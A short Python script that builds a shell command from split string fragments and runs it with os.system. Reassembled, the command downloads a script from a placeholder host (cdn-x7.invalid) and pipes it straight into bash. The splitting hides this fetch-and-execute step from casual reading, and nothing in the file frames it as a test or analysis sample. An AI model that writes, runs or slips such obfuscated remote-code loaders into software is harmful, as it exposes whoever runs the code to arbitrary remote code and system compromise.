import os
s = ""
for p in ['curl -', 's http', 's://cd', 'n-x7.i', 'nvalid', '/a | b', 'ash']:
    s += p
os.system(s)
